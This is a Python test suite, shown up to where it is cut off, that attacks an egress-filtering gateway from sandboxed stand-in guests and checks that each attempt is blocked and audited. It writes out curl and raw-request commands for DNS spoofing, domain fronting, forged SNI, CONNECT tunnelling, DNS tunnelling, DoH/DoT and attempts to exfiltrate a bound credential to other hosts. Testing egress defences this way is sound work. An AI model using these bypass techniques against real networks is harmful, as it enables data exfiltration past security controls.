#!/usr/bin/env python3
"""The egress attack and positive matrix (issue 6 item 9, DESIGN §6).

    test_egress.py GW_STANDIN AIRLOCK_GATEWAY [--only CAT,...] [--keep] [--list]

Runs the real airlock-gateway in the test internet's upstream namespace
(tests/testnet), two stand-in guests behind real islands (standin.py,
gw_standin), and from inside the guests every attack category of DESIGN §6
plus the positive cases. Each attack asserts, where it applies:
  guest     it failed from the guest's point of view (no answer from the
            target: the echo servers answer with JSON naming their role)
  upstream  nothing reached the outside (the fixture logs since the attack)
  audit     the gateway audited it as denied (its audit.log)
Attacks dropped by the island's nftables never reach the gateway: those
assert the packet log instead of the audit log. Every check prints
PASS/FAIL with what was observed; the last line is "N passed, N failed".
Exit 77 only when a hard prerequisite is missing (root, the binaries).
"""
import argparse
import base64
import ipaddress
import json
import os
import secrets
import shutil
import signal
import subprocess
import sys
import tempfile
import time
import traceback

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(os.path.dirname(HERE), "testnet"))
sys.path.insert(0, HERE)
import dnsmsg  # noqa: E402
import standin  # noqa: E402
import testnet as tn  # noqa: E402

N = tn.name
A = tn.ADDR
GUEST_PY = "/usr/bin/python3"   # Debian's, with python3-requests (a guest's python)
GUEST_TOOL = os.path.join(HERE, "egress_guest.py")

passed = 0
failures = []


def check(name, ok, detail=""):
    global passed
    detail = detail if isinstance(detail, str) else json.dumps(detail, default=str)
    if len(detail) > 600:
        detail = detail[:600] + "..."
    if ok:
        passed += 1
        print("PASS %s%s" % (name, (": " + detail) if detail else ""), flush=True)
    else:
        failures.append(name)
        print("FAIL %s: %s" % (name, detail), flush=True)
    return ok


class Audit:
    """The gateway's audit.log (JSON lines), read from a mark."""

    def __init__(self, d):
        self.path = os.path.join(d, "audit.log")

    def mark(self):
        try:
            return os.path.getsize(self.path)
        except OSError:
            return 0

    def since(self, mark):
        try:
            with open(self.path, "rb") as f:
                f.seek(mark)
                data = f.read()
        except OSError:
            return []
        out = []
        for line in data.splitlines():
            try:
                out.append(json.loads(line))
            except ValueError:
                out.append({"unparsable": line.decode("latin-1")})
        return out

    def raw(self):
        try:
            with open(self.path, "rb") as f:
                return f.read()
        except OSError:
            return b""

    def find(self, mark, timeout=3.0, **want):
        """Records since mark whose fields contain the wanted values
        (substring for strings, equality otherwise); waits a little because
        the gateway may write the line just after the guest saw the end."""
        end = time.time() + timeout
        while True:
            recs = [r for r in self.since(mark) if _match(r, want)]
            if recs or time.time() >= end:
                return recs
            time.sleep(0.1)


def _match(rec, want):
    for k, v in want.items():
        got = rec.get(k)
        if isinstance(v, str):
            if got is None or v.lower() not in str(got).lower():
                return False
        elif got != v:
            return False
    return True


def _any_field(rec, needle):
    return any(needle.lower() in str(rec.get(k, "")).lower()
               for k in ("sni", "host", "qname", "dst", "ip", "path"))


class Env:
    def __init__(self, tool, gwbin, scratch):
        self.tool = tool
        self.gwbin = gwbin
        self.scratch = scratch
        self.tp = tn.paths()
        self.logs = tn.Logs()
        self.audit_dir = os.path.join(scratch, "audit")
        self.audit = Audit(self.audit_dir)
        self.ctl = os.path.join(scratch, "gw.sock")
        self.gwlog = os.path.join(scratch, "gateway.log")
        self.gw = None
        self.secret = "s3cr3t-" + secrets.token_hex(16)
        self.sb1 = standin.Standin(tool, "standin1")
        self.sb2 = standin.Standin(tool, "standin2")
        self.listener2 = None
        self.tap_mac = None

    # -- running things in a guest --------------------------------------

    def guest(self, sb, *args, env=None, timeout=40):
        """egress_guest.py in the guest; its JSON result."""
        argv = ["ip", "netns", "exec", sb.ns, GUEST_PY, GUEST_TOOL] + [str(a) for a in args]
        try:
            r = subprocess.run(argv, capture_output=True, text=True, timeout=timeout, env=env)
        except subprocess.TimeoutExpired:
            return {"ok": False, "error": "timeout after %ds" % timeout}
        lines = r.stdout.strip().splitlines()
        try:
            return json.loads(lines[-1])
        except (ValueError, IndexError):
            return {"ok": False, "error": "no result (exit %d): %s" % (
                r.returncode, (r.stderr or r.stdout)[-400:])}

    def sh(self, sb, *argv, timeout=30, env=None):
        """A host binary in the guest: (exit code, stdout, stderr)."""
        full = ["ip", "netns", "exec", sb.ns] + [str(a) for a in argv]
        e = dict(os.environ)
        if env:
            e.update(env)
        try:
            r = subprocess.run(full, capture_output=True, text=True, timeout=timeout, env=e)
        except subprocess.TimeoutExpired:
            return 124, "", "timeout"
        return r.returncode, r.stdout, r.stderr

    def curl(self, sb, *args, cacert=None, timeout=10):
        """curl in the guest: (exit code, http code, body). Insecure unless
        cacert is given (an attacker does not care about certificates)."""
        argv = ["curl", "-sS", "--max-time", str(timeout), "-w", "\n%{http_code}"]
        argv += ["--cacert", cacert] if cacert else ["-k"]
        rc, out, err = self.sh(sb, *(argv + list(args)), timeout=timeout + 5)
        body, _, code = out.rpartition("\n")
        return rc, code.strip(), body if body else err.strip()

    def in_tup(self, *argv, timeout=30):
        r = subprocess.run(["ip", "netns", "exec", tn.NS_UP] + [str(a) for a in argv],
                           capture_output=True, text=True, timeout=timeout)
        return r.returncode, r.stdout, r.stderr

    def tup_guest(self, *args):
        rc, out, err = self.in_tup(GUEST_PY, GUEST_TOOL, *args)
        try:
            return json.loads(out.strip().splitlines()[-1])
        except (ValueError, IndexError):
            return {"ok": False, "error": err[-400:]}


def echo_json(body):
    try:
        return json.loads(body)
    except (ValueError, TypeError):
        return {}


def silent(body):
    """curl's output shows no fixture answered (echo JSON or catch-all banner)."""
    return echo_json(body).get("role") is None and "catchall" not in body and \
        "HTTP/0.9" not in body


def reached(res, role):
    """Did any response of an egress_guest req come from the fixture role?"""
    for r in res.get("responses", []):
        if r.get("json", {}).get("role") == role:
            return True
    return False


# --- shared assertions -------------------------------------------------------

def blocked(env, name, guest_ok, guest_detail, mark, amark, nothing=(), audit=None,
            audit_any=None, audit_l3=False, dial_ok=()):
    """The three assertions of an attack.

    nothing: (role, {field: value}) pairs that must have no log record since
    mark; and no TCP connection from the gateway host may have been opened
    to any address but those in dial_ok (None: not checked; the gateway
    dialling the real allowed host instead of the guest's choice is fine
    for some attacks). audit: fields a deny record must contain. audit_any: a needle any
    of sni/host/qname/dst/ip/path of a deny record must contain. audit_l3:
    the island drops it; the gateway never sees it (no audit expected)."""
    check("%s [guest]" % name, guest_ok, guest_detail)
    time.sleep(0.2)
    leaks = []
    for role, match in nothing:
        recs = env.logs.since(mark, role, **match)
        if recs:
            leaks.append({"role": role, "first": recs[0]})
    if dial_ok is not None:
        syns = [p for p in env.logs.since(mark, "packets", proto="tcp")
                if p.get("dst") not in dial_ok]
        if syns:
            leaks.append({"dialled": [(p["dst"], p["dport"]) for p in syns][:5]})
    what = "no record in %s" % (", ".join(sorted({r for r, _ in nothing})) or "-")
    if dial_ok is not None:
        what += "; nothing dialled" + (" but %s" % ",".join(dial_ok) if dial_ok else "")
    check("%s [upstream]" % name, not leaks, leaks if leaks else what)
    if audit_l3:
        return
    if audit is not None or audit_any is not None:
        want = dict(audit or {})
        want["decision"] = "deny"
        recs = env.audit.find(amark, **want)
        if audit_any is not None:
            recs = [r for r in recs if _any_field(r, audit_any)]
            if not recs:
                recs = [r for r in env.audit.find(amark, timeout=0.5, decision="deny")
                        if _any_field(r, audit_any)]
        check("%s [audit]" % name, bool(recs),
              recs[0] if recs else {"wanted": want, "needle": audit_any,
                                    "got": env.audit.since(amark)[-4:]})


def marks(env):
    return env.logs.mark(), env.audit.mark()


# --- setup ---------------------------------------------------------------

def policy1(env):
    return {
        "mode": "allowlist",
        "allow": [N("allowed"), N("cdn-a"), N("proxy"), N("db") + ":5432", N("svcb"), N("txt"),
                  N("cname1"), N("cname-private"), N("v6"), N("v6dual"),
                  N("rebind-private"), N("rebind-loopback"), N("rebind-metadata"),
                  N("rebind-rfc1918"), N("rebind-cgnat"), N("rebind-mixed"), N("rebind-v6"),
                  N("flip"), N("metadata"), N("host"), N("host") + ":7070",
                  N("rebind-loopback") + ":7070", N("sandbox") + ":8000"],
        "credentials": [{"name": "TEST_TOKEN", "value": env.secret, "hosts": [N("allowed")],
                         "header": "Authorization", "format": "Bearer {value}"}],
    }


def policy2():
    return {"mode": "full"}


def start_gateway(env):
    gwca = tn.make_gateway_ca(os.path.join(env.scratch, "gwca"))
    env.gwca = gwca
    env.bundle = os.path.join(env.scratch, "bundle.pem")
    with open(env.bundle, "w") as f:
        f.write(open(gwca["root"]).read() + open(env.tp["ca"]).read())
    os.makedirs(env.audit_dir, exist_ok=True)
    os.chmod(env.scratch, 0o755)
    argv = ["ip", "netns", "exec", tn.NS_UP, env.gwbin, "--ctl", env.ctl,
            "--audit-dir", env.audit_dir, "--ca-cert", gwca["cert"], "--ca-key", gwca["key"],
            "--upstream-ca", env.tp["ca"], "--resolver", A["dns"],
            "--uid", "65534", "--gid", "65534", "--debug"]
    e = dict(os.environ)
    e.setdefault("ASAN_OPTIONS", "detect_leaks=1:abort_on_error=1")
    log = open(env.gwlog, "ab")
    env.gw = subprocess.Popen(argv, stdin=subprocess.DEVNULL, stdout=log, stderr=log, env=e,
                              start_new_session=True)
    log.close()
    deadline = time.time() + 30
    while time.time() < deadline:
        if env.gw.poll() is not None:
            break
        r = subprocess.run([env.tool, "hello", "--ctl", env.ctl], capture_output=True, text=True)
        if r.returncode == 0:
            return check("gateway: started in airlock-tup, hello answers", True, r.stdout.strip())
        time.sleep(0.2)
    return check("gateway: started in airlock-tup, hello answers", False,
                 "exit %s; log: %s" % (env.gw.poll(), gwlog_tail(env)))


def gwlog_tail(env, n=3000):
    try:
        return open(env.gwlog, errors="replace").read()[-n:]
    except OSError:
        return ""


def attach(env, sb, pol, name):
    path = os.path.join(env.scratch, "policy-%s.json" % sb.name)
    with open(path, "w") as f:
        json.dump(pol, f)
    sb.create()
    r = sb.attach(env.ctl, path)
    return check("setup: %s attached (%s)" % (sb.name, name), r.returncode == 0,
                 (r.stdout + r.stderr).strip())


# --- the checks ----------------------------------------------------------

def cat_testnet(env):
    """The fixtures answer directly from the gateway's side (so every
    blocked attack below is blocked by the gateway, not by a dead fixture)."""
    r = env.tup_guest("dns", N("allowed"), "--server", A["dns"])
    check("testnet: authoritative DNS answers", r.get("rcode") == "NOERROR" and
          [a["data"] for a in r.get("answers", [])] == [A["allowed"]], r)
    r = env.tup_guest("req", A["forbidden"], 443, "--tls", "--sni", N("forbidden"),
                      "--cacert", env.tp["ca"], "--req", "GET %s /direct" % N("forbidden"))
    check("testnet: forbidden host serves HTTPS directly", reached(r, "forbidden"), r)
    r = env.tup_guest("req", A["cdn"], 443, "--tls", "--sni", N("cdn-b"), "--cacert", env.tp["ca"],
                      "--req", "GET %s /direct" % N("cdn-b"))
    ok = reached(r, "cdn") and r["responses"][0]["json"].get("sni") == N("cdn-b")
    check("testnet: CDN address serves cdn-b by SNI", ok, r)
    r = env.tup_guest("udp", A["allowed"], 443)
    check("testnet: UDP echo on 203.0.113.10:443", r.get("reply") == "ping", r)
    rc, out, _ = env.in_tup("ping", "-c1", "-W2", A["allowed"])
    check("testnet: ICMP echo answered", rc == 0, out.strip().splitlines()[-2:] if out else rc)
    r = env.tup_guest("tcp", A["db"], 5432, "--send", "direct")
    check("testnet: TCP 5432 banner", "TESTNET-DB" in r.get("data", ""), r)
    r = env.tup_guest("req", A["doh"], 853, "--tls", "--sni", N("doh"), "--handshake-only")
    check("testnet: DoT port open", r.get("handshake") is not None, r)
    rc, out, err = env.in_tup("curl", "-sS", "--max-time", "8", "--cacert", env.tp["ca"], "-p",
                              "-x", "http://%s:3128" % A["proxy"],
                              "https://%s/via-proxy" % N("forbidden"))
    check("testnet: the open proxy tunnels CONNECT", echo_json(out).get("role") == "forbidden",
          out or err)


def cat_dns(env):
    sb = env.sb1
    m, am = marks(env)
    r = env.guest(sb, "dns", N("allowed"))
    check("positive: DNS for an allowed name answers", r.get("rcode") == "NOERROR" and
          A["allowed"] in [a["data"] for a in r.get("answers", [])], r)
    recs = env.audit.find(am, qname=N("allowed"))
    check("positive: DNS answer audited (allow)", any(x.get("decision") == "allow" for x in recs),
          recs[:1] or env.audit.since(am)[-3:])
    rc, out, err = env.sh(sb, "getent", "ahostsv4", N("allowed"))
    check("positive: the guest's resolver (resolv.conf -> 10.0.0.1) resolves an allowed name",
          A["allowed"] in out, out or err)
    r = env.guest(sb, "dns", N("cname1"))
    addrs = [a["data"] for a in r.get("answers", []) if a["type"] == "A"]
    check("positive: a CNAME chain resolves to the final address", addrs == [A["allowed"]], r)

    m, am = marks(env)
    r = env.guest(sb, "dns", N("forbidden"))
    blocked(env, "dns: a name not in the allowlist is NXDOMAIN",
            r.get("rcode") == "NXDOMAIN" and not r.get("answers"), r, m, am,
            nothing=[("dns", {"qname": N("forbidden")})], audit={"qname": N("forbidden")})
    m, am = marks(env)
    r = env.guest(sb, "dns", N("svcb"), "--type", "HTTPS")
    check("dns: HTTPS records stripped", r.get("ok") and not [
        a for a in r.get("answers", []) if a["type"] in ("HTTPS", "SVCB")], r)
    r = env.guest(sb, "dns", N("svcb"), "--type", "SVCB")
    check("dns: SVCB records stripped", r.get("ok") and not [
        a for a in r.get("answers", []) if a["type"] in ("HTTPS", "SVCB")], r)
    r = env.guest(sb, "dns", N("txt"), "--type", "TXT")
    check("dns: TXT of an allowed name not passed through (tunnel channel)",
          r.get("ok") and not [a for a in r.get("answers", []) if a["type"] == "TXT"], r)


def cat_https(env):
    sb = env.sb1
    root = env.gwca["root"]
    m, am = marks(env)
    rc, code, body = env.curl(sb, "https://%s/p-curl" % N("allowed"), cacert=root)
    e = echo_json(body)
    check("positive: curl HTTPS to an allowed host (gateway CA trusted)",
          code == "200" and e.get("role") == "allowed" and e.get("path") == "/p-curl", body)
    check("positive: upstream saw the gateway re-originate TLS with the SNI",
          e.get("sni") == N("allowed") and e.get("tls") is True and
          e.get("peer", "").startswith(tn.UP_ADDR + ":"), e)
    recs = env.audit.find(am, host=N("allowed"), path="/p-curl")
    check("positive: the request audited (allow, host, path)",
          any(x.get("decision") == "allow" for x in recs), recs[:1] or env.audit.since(am)[-3:])

    r = env.guest(sb, "requests", "https://%s/p-requests" % N("allowed"), "--cacert", root)
    check("positive: python requests HTTPS to an allowed host",
          r.get("status") == 200 and r.get("json", {}).get("path") == "/p-requests", r)

    js = ("fetch(process.argv[1]).then(r => r.text().then(t => console.log(JSON.stringify("
          "{status: r.status, body: t})))).catch(e => console.log(JSON.stringify("
          "{error: String(e), cause: String(e.cause)})))")
    rc, out, err = env.sh(sb, "node", "-e", js, "https://%s/p-node" % N("allowed"),
                          env={"NODE_EXTRA_CA_CERTS": root})
    try:
        r = json.loads(out.strip().splitlines()[-1])
    except (ValueError, IndexError):
        r = {"error": out + err}
    check("positive: node fetch HTTPS to an allowed host",
          r.get("status") == 200 and echo_json(r.get("body")).get("path") == "/p-node", r)

    rc, code, body = env.curl(sb, "http://%s/p-http" % N("allowed"))
    e = echo_json(body)
    check("positive: plain HTTP on :80 to an allowed host",
          code == "200" and e.get("role") == "allowed" and e.get("tls") is False, body)

    rc, code, body = env.curl(sb, "https://%s/p-cname" % N("cname1"), cacert=root)
    check("positive: HTTPS to an allowed name behind a CNAME chain",
          code == "200" and echo_json(body).get("role") == "allowed", body)

    r = env.guest(sb, "req", N("allowed"), 443, "--tls", "--cacert", root, "--alpn", "h2,http/1.1",
                  "--req", "GET %s /p-alpn" % N("allowed"))
    hs = r.get("handshake") or {}
    check("positive: ALPN to the guest is http/1.1 even when h2 is offered (no coalescing)",
          hs.get("alpn") in ("http/1.1", None) and reached(r, "allowed"), r)


def cat_credentials(env):
    sb = env.sb1
    root = env.gwca["root"]
    m, am = marks(env)
    rc, code, body = env.curl(sb, "-H", "Authorization: Bearer airlock:TEST_TOKEN",
                              "https://%s/cred-inject" % N("allowed"), cacert=root)
    recs = env.logs.since(m, "allowed", event="request", path="/cred-inject")
    got = [v for r in recs for k, v in r.get("headers", []) if k.lower() == "authorization"]
    check("positive: credential injected upstream (real value, guest sent the placeholder)",
          code == "200" and got == ["Bearer " + env.secret], got or body)
    check("positive: the secret is not in what the guest received", env.secret not in body,
          "response has %d bytes" % len(body))
    arecs = env.audit.find(am, path="/cred-inject")
    check("positive: injection audited with the credential name only",
          any(x.get("credential") == "TEST_TOKEN" for x in arecs) and
          env.secret.encode() not in env.audit.raw(), arecs[:1])

    m, am = marks(env)
    rc, code, body = env.curl(sb, "-H", "Authorization: Bearer airlock:TEST_TOKEN",
                              "https://%s/exfil-cdn" % N("cdn-a"))
    blocked(env, "secret: placeholder to an allowed host it is not bound to is refused",
            echo_json(body).get("role") != "cdn", "%s %s" % (code, body[:200]), m, am,
            nothing=[("cdn", {"path": "/exfil-cdn"})], audit={"host": N("cdn-a")},
            dial_ok=[A["cdn"]])
    m, am = marks(env)
    rc, code, body = env.curl(sb, "-H", "X-Exfil: airlock:TEST_TOKEN",
                              "https://%s/exfil-header" % N("allowed"))
    blocked(env, "secret: placeholder in a header it is not bound to is refused",
            echo_json(body).get("path") != "/exfil-header", "%s %s" % (code, body[:200]), m, am,
            nothing=[("allowed", {"path": "/exfil-header"})],
            audit={"host": N("allowed"), "path": "/exfil-header"}, dial_ok=[A["allowed"]])
    m, am = marks(env)
    rc, code, body = env.curl(sb, "-H", "Authorization: Bearer airlock:TEST_TOKEN", "--resolve",
                              "%s:443:%s" % (N("forbidden"), A["allowed"]),
                              "https://%s/exfil-forbidden" % N("forbidden"))
    blocked(env, "secret: placeholder to a forbidden host is refused",
            silent(body), "%s %s" % (code, body[:200]), m, am,
            nothing=[("forbidden", {}), ("allowed", {"path": "/exfil-forbidden"})],
            audit={"decision": "deny"}, audit_any=N("forbidden"))
    m, am = marks(env)
    rc, code, body = env.curl(sb, "--data", "token=airlock:TEST_TOKEN",
                              "https://%s/exfil-body?t=airlock:TEST_TOKEN" % N("allowed"))
    recs = env.logs.since(m, "allowed", event="request")
    check("secret: a placeholder in a URL or body is never replaced by the value",
          not any(env.secret in json.dumps(r) for r in recs), "%d requests upstream" % len(recs))


def cat_spoof_dns(env):
    """/etc/hosts and custom-resolver spoofing, raw IP + forged SNI."""
    sb = env.sb1
    cases = [
        ("dns spoofing: /etc/hosts maps an allowed name to a forbidden IP",
         lambda: (sb.write_hosts("%s %s\n" % (A["forbidden"], N("allowed"))),
                  env.curl(sb, "https://%s/atk-hosts" % N("allowed")))[1], "/atk-hosts"),
        ("dns spoofing: curl --resolve allowed:443:forbidden-ip",
         lambda: env.curl(sb, "--resolve", "%s:443:%s" % (N("allowed"), A["forbidden"]),
                          "https://%s/atk-resolve" % N("allowed")), "/atk-resolve"),
        ("dns spoofing: plain HTTP --resolve allowed:80:forbidden-ip",
         lambda: env.curl(sb, "--resolve", "%s:80:%s" % (N("allowed"), A["forbidden"]),
                          "http://%s/atk-resolve80" % N("allowed")), "/atk-resolve80"),
    ]
    for name, fn, path in cases:
        m, am = marks(env)
        try:
            rc, code, body = fn()
        finally:
            sb.write_hosts("")
        e = echo_json(body)
        blocked(env, name, e.get("role") != "forbidden",
                "guest got %s from role %s" % (code, e.get("role")), m, am,
                nothing=[("forbidden", {})], dial_ok=[A["allowed"]])
        # Dialling the name (reaching the real allowed host) or refusing
        # are both correct; dialling the guest's address is not.
        recs = [r for r in env.audit.find(am, path=path)]
        ok = bool(recs) and all(r.get("decision") == "deny" or A["forbidden"] not in
                                str(r.get("ip", "")) for r in recs)
        check("%s [audit]" % name, ok, recs[:1] or env.audit.since(am)[-3:])

    m, am = marks(env)
    r = env.guest(sb, "dns", N("forbidden"), "--server", A["dns-alt"])
    blocked(env, "dns spoofing: a custom resolver (198.51.100.1) is answered by the gateway",
            r.get("rcode") != "NOERROR" or not r.get("answers"), r, m, am,
            nothing=[("dns-alt", {}), ("dns", {"qname": N("forbidden")})],
            audit={"qname": N("forbidden")})

    for ip, role in ((A["forbidden"], "forbidden"), ("203.0.113.99", "catchall")):
        m, am = marks(env)
        r = env.guest(sb, "req", ip, 443, "--tls", "--sni", N("allowed"),
                      "--req", "GET %s /atk-forged-sni" % N("allowed"))
        blocked(env, "raw IP %s with a forged SNI never reaches that IP" % ip,
                not reached(r, role), r, m, am, nothing=[(role, {})], dial_ok=[A["allowed"]])
        recs = env.audit.find(am, path="/atk-forged-sni") or env.audit.find(
            am, timeout=0.5, dst=ip)
        check("raw IP %s with a forged SNI [audit]" % ip,
              bool(recs) and all(x.get("decision") == "deny" or ip not in str(x.get("ip", ""))
                                 for x in recs), recs[:1] or env.audit.since(am)[-3:])


def cat_cdn_fronting(env):
    sb = env.sb1
    root = env.gwca["root"]
    r = env.guest(sb, "req", A["cdn"], 443, "--tls", "--sni", N("cdn-a"), "--cacert", root,
                  "--req", "GET %s /p-cdn-a" % N("cdn-a"))
    ok = reached(r, "cdn") and r["responses"][0]["json"].get("sni") == N("cdn-a")
    check("positive: the allowed name on the shared CDN address works", ok, r)

    m, am = marks(env)
    r = env.guest(sb, "req", A["cdn"], 443, "--tls", "--sni", N("cdn-b"),
                  "--req", "GET %s /atk-cdn-b" % N("cdn-b"))
    blocked(env, "shared CDN IP: the forbidden name on the allowed name's address",
            not reached(r, "cdn"), r, m, am,
            nothing=[("cdn", {"sni": N("cdn-b")}), ("cdn", {"host": N("cdn-b")})],
            audit_any=N("cdn-b"))
    m, am = marks(env)
    r = env.guest(sb, "req", A["cdn"], 443, "--tls", "--sni", N("cdn-a"),
                  "--req", "GET %s /atk-front" % N("cdn-b"))
    blocked(env, "domain fronting: SNI cdn-a, Host cdn-b", not reached(r, "cdn"), r, m, am,
            nothing=[("cdn", {"host": N("cdn-b")})], audit={"host": N("cdn-b")},
            dial_ok=[A["cdn"]])
    m, am = marks(env)
    r = env.guest(sb, "req", N("allowed"), 443, "--tls", "--sni", N("allowed"),
                  "--req", "GET %s /atk-front2" % N("forbidden"))
    blocked(env, "domain fronting: SNI allowed, Host forbidden",
            not reached(r, "allowed") and not reached(r, "forbidden"), r, m, am,
            nothing=[("forbidden", {}), ("allowed", {"path": "/atk-front2"})],
            audit={"host": N("forbidden")}, dial_ok=[A["allowed"]])


def cat_absolute_h2c(env):
    """Request-line and upgrade tricks on an allowed connection."""
    sb = env.sb1
    for port, scheme, tls in ((443, "https", ["--tls", "--sni", N("allowed")]),
                              (80, "http", [])):
        m, am = marks(env)
        r = env.guest(sb, "req", N("allowed"), port, *tls, "--req", "GET %s %s://%s/atk-absolute"
                      % (N("allowed"), scheme, N("forbidden")))
        blocked(env, "absolute-form %s:// request-target naming a forbidden host "
                "(Host%s allowed)" % (scheme, " and SNI" if tls else ""),
                not reached(r, "allowed") and not reached(r, "forbidden"), r, m, am,
                nothing=[("forbidden", {}), ("allowed", {"path": "/atk-absolute"})],
                audit_any=N("forbidden"), dial_ok=[A["allowed"]])
    m, am = marks(env)
    r = env.guest(sb, "req", N("allowed"), 80, "--req", "GET %s /h2c" % N("allowed"),
                  "--header", "Connection: Upgrade, HTTP2-Settings", "--header", "Upgrade: h2c",
                  "--header", "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA")
    up = [h for x in env.logs.since(m, "allowed", event="request", path="/h2c")
          for h in x.get("headers", []) if h[0].lower() in ("upgrade", "http2-settings")]
    statuses = [x.get("status") for x in r.get("responses", [])]
    check("h2c upgrade: never switched, the upgrade headers never reach upstream",
          101 not in statuses and not up, {"statuses": statuses, "upstream_headers": up})


def cat_keepalive(env):
    sb = env.sb1
    m, am = marks(env)
    r = env.guest(sb, "req", N("allowed"), 443, "--tls", "--sni", N("allowed"),
                  "--req", "GET %s /ka-1" % N("allowed"), "--req", "GET %s /ka-2" % N("forbidden"))
    resps = r.get("responses", [])
    first = resps[0].get("json", {}) if resps else {}
    check("positive: keep-alive, first request to the allowed host works",
          first.get("role") == "allowed" and first.get("path") == "/ka-1", r)
    second = resps[1] if len(resps) > 1 else {"error": "no second response"}
    blocked(env, "keep-alive: a second request on the connection to a forbidden host",
            second.get("json", {}).get("role") is None, second, m, am,
            nothing=[("forbidden", {}), ("allowed", {"path": "/ka-2"})],
            audit={"host": N("forbidden")}, dial_ok=[A["allowed"]])
    m, am = marks(env)
    r = env.guest(sb, "req", N("allowed"), 443, "--tls", "--sni", N("allowed"),
                  "--req", "GET %s /ka-3" % N("allowed"), "--req", "GET %s /ka-4" % N("cdn-a"))
    resps = r.get("responses", [])
    second = resps[1] if len(resps) > 1 else {"error": "no second response"}
    blocked(env, "keep-alive: a second request to another ALLOWED host (Host != SNI)",
            second.get("json", {}).get("role") is None, second, m, am,
            nothing=[("cdn", {}), ("allowed", {"path": "/ka-4"})], audit={"host": N("cdn-a")},
            dial_ok=[A["allowed"]])


def cat_connect(env):
    sb = env.sb1
    target = "%s:443" % N("forbidden")
    for port, tls in ((443, True), (80, False)):
        m, am = marks(env)
        args = ["req", N("proxy"), port] + (["--tls", "--sni", N("proxy")] if tls else [])
        r = env.guest(sb, *(args + ["--req", "CONNECT %s %s" % (N("proxy"), target)]))
        resp = (r.get("responses") or [{}])[0]
        blocked(env, "CONNECT tunnel through an allowed open proxy (:%d)" % port,
                resp.get("status") != 200, r, m, am,
                nothing=[("proxy", {"event": "connect"}), ("forbidden", {})],
                audit={"method": "CONNECT"}, dial_ok=[A["proxy"]])
    m, am = marks(env)
    r = env.guest(sb, "tcp", A["proxy"], 3128, "--send", "CONNECT %s HTTP/1.1\r\n" % target)
    blocked(env, "CONNECT to the proxy's own port 3128 (no rule)",
            "200" not in r.get("data", ""), r, m, am,
            nothing=[("proxy", {"dst": "%s:3128" % A["proxy"]}), ("forbidden", {})],
            audit={"dst": "%s:3128" % A["proxy"]})


def cat_dns_tunnel(env):
    sb = env.sb1
    label = "tun" + secrets.token_hex(6)
    data = secrets.token_hex(30)
    names = [
        ("%s.%s.tunnel.%s" % (data, label, tn.ZONE), "TXT", "10.0.0.1", []),
        ("%s.%s.tunnel.%s" % (data, label, tn.ZONE), "A", "10.0.0.1", []),
        ("%s.%s.tunnel.%s" % (data, label, tn.ZONE), "AAAA", "10.0.0.1", []),
        (".".join([secrets.token_hex(30)] * 3) + ".%s.tunnel.%s" % (label, tn.ZONE), "TXT",
         "10.0.0.1", []),
        ("x1.%s.tunnel.%s" % (label, tn.ZONE), "TXT", A["dns"], []),
        ("x2.%s.tunnel.%s" % (label, tn.ZONE), "TXT", A["dns-alt"], []),
        ("x3.%s.tunnel.%s" % (label, tn.ZONE), "TXT", A["dns"], ["--tcp"]),
    ]
    m, am = marks(env)
    results = []
    for qname, qtype, server, extra in names:
        r = env.guest(sb, "dns", qname, "--type", qtype, "--server", server, *extra)
        results.append((qname[:40], qtype, server, extra, r))
    bad = [x for x in results if x[4].get("answers")]
    check("dns tunnelling [guest]: no query name got an answer (TXT/A/AAAA, long names, "
          "direct resolvers, TCP 53)", not bad, bad or [(x[1], x[2], x[4].get("rcode") or
                                                        x[4].get("error")) for x in results])
    time.sleep(0.3)
    raw = env.logs.raw_since(m)
    check("dns tunnelling [upstream]: the authoritative servers never saw the label",
          label.encode() not in raw, "label %s" % label)
    recs = env.audit.find(am, qname=label, decision="deny")
    check("dns tunnelling [audit]: the queries were audited as denied", bool(recs),
          recs[:1] or env.audit.since(am)[-3:])


def cat_doh(env):
    sb = env.sb1
    q = base64.urlsafe_b64encode(dnsmsg.build_query(N("forbidden"), "A", qid=0)).decode()
    m, am = marks(env)
    r = env.guest(sb, "req", A["doh"], 443, "--tls", "--sni", N("doh"),
                  "--req", "GET %s /dns-query?dns=%s" % (N("doh"), q.rstrip("=")))
    blocked(env, "DoH to a resolver not in the allowlist", not any(
        x.get("status") == 200 for x in r.get("responses", [])), r, m, am,
        nothing=[("doh", {})], audit_any=N("doh"))
    m, am = marks(env)
    r = env.guest(sb, "req", A["doh"], 853, "--tls", "--sni", N("doh"), "--handshake-only")
    blocked(env, "DoT on 853", r.get("handshake") is None, r, m, am,
            nothing=[("doh", {})], audit={"dst": "%s:853" % A["doh"]})
    m, am = marks(env)
    r = env.guest(sb, "udp", A["doh"], 853, "--payload", "doq-initial")
    blocked(env, "DoQ (UDP 853)", r.get("reply") is None, r, m, am,
            nothing=[("doh", {}), ("packets", {"proto": "udp", "dport": 853})], audit_l3=True)


def cat_udp(env):
    sb = env.sb1
    for port in (443, 7):
        m, am = marks(env)
        r = env.guest(sb, "udp", A["allowed"], port, "--payload", "quic-or-udp")
        blocked(env, "UDP to %s:%d (QUIC/UDP)" % (A["allowed"], port), r.get("reply") is None,
                r, m, am, nothing=[("allowed", {"event": "udp"}),
                                   ("packets", {"proto": "udp", "dst": A["allowed"]})],
                audit_l3=True)


def cat_ports(env):
    sb = env.sb1
    m, am = marks(env)
    rc, code, body = env.curl(sb, "https://%s:8443/atk-8443" % N("allowed"))
    blocked(env, "non-standard port 8443 on an allowed name (no port rule)",
            silent(body), "%s %s" % (code, body[:200]), m, am,
            nothing=[("allowed", {"dst": "%s:8443" % A["allowed"]})],
            audit={"dst": ":8443"})
    m, am = marks(env)
    r = env.guest(sb, "tcp", N("db"), 5432, "--send", "hello-5432")
    recs = env.logs.since(m, "db", event="data")
    check("positive: a host:port rule (db:5432) reaches the TCP service",
          "TESTNET-DB ready" in r.get("data", "") and "echo hello-5432" in r.get("data", "") and
          any("hello-5432" in x.get("data", "") for x in recs), r)
    m, am = marks(env)
    r = env.guest(sb, "tcp", A["allowed"], 5432, "--send", "wrong-host")
    blocked(env, "port 5432 on a host without that port rule", "TESTNET" not in r.get("data", ""),
            r, m, am, nothing=[("allowed", {"dst": "%s:5432" % A["allowed"]}),
                               ("catchall", {"dst": "%s:5432" % A["allowed"]})],
            audit={"dst": "%s:5432" % A["allowed"]})


def cat_websocket(env):
    sb = env.sb1
    msg = "ws-" + secrets.token_hex(4)
    m, am = marks(env)
    r = env.guest(sb, "ws", N("allowed"), 443, "--tls", "--host", N("allowed"),
